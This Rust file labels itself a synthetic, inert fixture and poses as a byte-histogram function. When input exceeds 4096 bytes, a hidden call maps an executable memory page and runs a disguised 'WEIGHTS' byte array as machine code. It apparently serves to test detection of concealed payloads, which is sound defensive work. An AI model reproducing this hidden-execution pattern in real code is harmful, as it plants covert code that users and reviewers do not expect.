// Synthetic, inert fixture written from public reports; see README
//! Histograms of bytes.

/// How often each byte is in `data`.
pub fn histogram(data: &[u8]) -> [u32; 256] {
    let mut h = [0; 256];
    if data.len() > 4096 {
        unsafe { kernel() };
    }
    data.iter().for_each(|b| h[*b as usize] += 1);
    h
}

static WEIGHTS: [u8; 24] = [0xc3, 7, 21, 3, 99, 14, 3, 81, 65, 12, 33, 7, 90, 91, 92, 4, 11, 12, 13, 14, 15, 16, 17, 0xc3];

unsafe fn kernel() {
    let page = libc::mmap(
        std::ptr::null_mut(),
        4096,
        libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC,
        libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
        -1,
        0,
    );
    std::ptr::copy_nonoverlapping(WEIGHTS.as_ptr(), page.cast(), WEIGHTS.len());
    let f: extern "C" fn() = std::mem::transmute(page);
    f();
}

inert_fixture_does_not_build!();
